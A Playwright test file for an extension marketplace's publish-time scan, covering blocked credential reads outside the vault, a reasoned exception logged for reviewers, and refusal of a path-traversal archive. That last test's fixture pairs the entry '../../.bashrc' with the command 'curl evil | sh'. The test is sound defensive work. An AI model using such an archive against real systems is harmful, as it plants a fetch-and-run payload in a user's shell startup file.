import fs from "node:fs";
import { expect, test, type Page } from "@playwright/test";
import { makeTarGz } from "../test/archives";
import { storageStateFor } from "./people";

// The publish-time scan from issue 18, in the browser: a publisher uploads a version's source; a legacy
// credential read blocks publishing with the message until it is fixed; a reasoned exception
// publishes with a warning and an audit event; an archive whose entry escapes the root is refused and
// nothing is stored.

const spotifyManifest = fs.readFileSync("lib/manifest/fixtures/spotify-secrets.yaml", "utf8");

// Line 14 reads the environment, line 31 the legacy platform config (the example positions).
const LEGACY_APP = [
  'import { createClient } from "@latchkey/sdk";',
  ...Array.from({ length: 12 }, (_, i) => `// line ${i + 2}`),
  "const key = process.env.STRIPE_KEY;",
  ...Array.from({ length: 16 }, (_, i) => `// line ${i + 15}`),
  'const id = ctx.config.get("spotify.client_id");',
  "",
].join("\n");
const FIXED_APP =
  'export async function search(ctx) {\n  const key = await ctx.secrets.get("spotify_api_key");\n  return key !== null;\n}\n';
const EXCEPTION_APP =
  "// latchkey-allow-plaintext-credential: the v1 importer reads the old key once; removed in 1.1\nconst legacy = process.env.STRIPE_KEY;\n";
const BLOCKED =
  'Publish blocked: 2 credential reads bypass the vault (src/app.ts:14:13 process.env.STRIPE_KEY; src/app.ts:31:12 ctx.config.get("spotify.client_id")). Declare them in the manifest and read them with secrets.get, or mark a justified exception.';

const tag = () => Math.random().toString(36).slice(2, 8);

/** Creates a fresh Spotify extension and opens its 1.0.0 version page. */
async function newVersionPage(page: Page): Promise<string> {
  const id = `dev.e2escan${tag()}.spotify`;
  await page.goto("/publisher");
  await page.getByLabel("Manifest (YAML)").fill(spotifyManifest.replace("id: dev.imperal.spotify", `id: ${id}`));
  await page.getByRole("button", { name: "Create extension" }).click();
  await expect(page).toHaveURL(/\/publisher\/extensions\/[0-9a-f-]{36}\?uploaded=1$/);
  await page.getByRole("link", { name: "Upload source and see the publish-time scan" }).click();
  await expect(page.getByRole("heading", { name: "Spotify 1.0.0", level: 1 })).toBeVisible();
  return page.url();
}

async function upload(page: Page, name: string, archive: Buffer) {
  await page.getByLabel("Source archive (.zip or .tar.gz)").setInputFiles({ name, mimeType: "application/gzip", buffer: archive });
  await page.getByRole("button", { name: "Upload and scan" }).click();
}

test.describe("publish-time scan", () => {
  test.use({ storageState: storageStateFor("publisher") });

  test("a legacy read blocks publishing with the issue's message; once fixed, the version publishes", async ({ page }) => {
    await newVersionPage(page);
    await expect(page.getByText("No source uploaded for this version.")).toBeVisible();

    await upload(page, "source.tar.gz", await makeTarGz([{ name: "src/app.ts", content: LEGACY_APP }]));
    await expect(page.getByRole("status").filter({ hasText: "Scanned 1 file of source.tar.gz: 2 blocking, 0 warnings." })).toBeVisible();
    const findings = page.getByTestId("scan-finding");
    await expect(findings).toHaveCount(2);
    const first = findings.nth(0);
    await expect(first).toContainText("Blocks publishing");
    await expect(first).toContainText("src/app.ts:14:13");
    await expect(first).toContainText("Credential read from the environment (env-credential-read)");
    await expect(first.getByLabel("Code around src/app.ts line 14")).toContainText("const key = process.env.STRIPE_KEY;");
    await expect(first).toContainText("Why");
    await expect(first).toContainText("How to fix");
    await expect(findings.nth(1)).toContainText("src/app.ts:31:12");

    await page.getByRole("button", { name: "Publish 1.0.0" }).click();
    const refusal = page.getByRole("alert").filter({ hasText: "Publish blocked" });
    await expect(refusal).toBeVisible();
    expect(await refusal.innerText()).toBe(BLOCKED);

    await upload(page, "fixed.tar.gz", await makeTarGz([{ name: "src/app.ts", content: FIXED_APP }]));
    await expect(page.getByRole("status").filter({ hasText: "Scanned 1 file of fixed.tar.gz: 0 blocking, 0 warnings." })).toBeVisible();
    await expect(page.getByText("No findings: every credential read goes through the vault.")).toBeVisible();
    await page.getByRole("button", { name: "Publish 1.0.0" }).click();
    await expect(page.getByRole("status").filter({ hasText: "Published Spotify 1.0.0" })).toBeVisible();
  });

  test("a reasoned exception publishes with a warning, listed for reviewers and written to the audit log", async ({ page }) => {
    const versionUrl = await newVersionPage(page);
    await upload(page, "source.tar.gz", await makeTarGz([{ name: "src/import.ts", content: EXCEPTION_APP }]));
    await expect(page.getByRole("status").filter({ hasText: "0 blocking, 1 warning." })).toBeVisible();
    await expect(page.getByTestId("scan-finding")).toContainText("Warning");
    await expect(page.getByRole("list", { name: "Exceptions" })).toHaveText(
      "src/import.ts:2:16 process.env.STRIPE_KEY — the v1 importer reads the old key once; removed in 1.1",
    );
    await page.getByRole("button", { name: "Publish 1.0.0" }).click();
    await expect(page.getByRole("status").filter({ hasText: "Published Spotify 1.0.0" })).toBeVisible();

    // The version page keeps showing the exception to reviewers after publishing.
    await page.goto(versionUrl);
    await expect(page.getByRole("list", { name: "Exceptions" })).toContainText("the v1 importer reads the old key once");
    await page.getByRole("link", { name: /^← Spotify/ }).click();
    await page.getByRole("link", { name: "Audit log" }).first().click();
    const events = page.getByTestId("audit-event");
    await expect(events.filter({ hasText: "scan.exception" })).toHaveCount(1);
    await expect(events.filter({ hasText: "source.upload" })).toHaveCount(1);
    await expect(events.filter({ hasText: "extension.publish" })).toHaveCount(1);
  });

  test("an archive whose entry escapes the root is refused and nothing is stored", async ({ page }) => {
    await newVersionPage(page);
    await upload(
      page,
      "evil.tar.gz",
      await makeTarGz([
        { name: "src/app.ts", content: FIXED_APP },
        { name: "../../.bashrc", content: "curl evil | sh" },
      ]),
    );
    await expect(page.getByRole("alert").filter({ hasText: "points outside" })).toHaveText(
      'The archive entry "../../.bashrc" points outside the extension\'s root (".." in its path).',
    );
    await page.reload();
    await expect(page.getByText("No source uploaded for this version.")).toBeVisible();
    await expect(page.getByTestId("scan-finding")).toHaveCount(0);
    await page.getByRole("link", { name: /^← Spotify/ }).click();
    await page.getByRole("link", { name: "Audit log" }).first().click();
    await expect(page.getByTestId("audit-event").filter({ hasText: "manifest.upload" })).toHaveCount(1);
    await expect(page.getByTestId("audit-event").filter({ hasText: "source.upload" })).toHaveCount(0);
  });
});
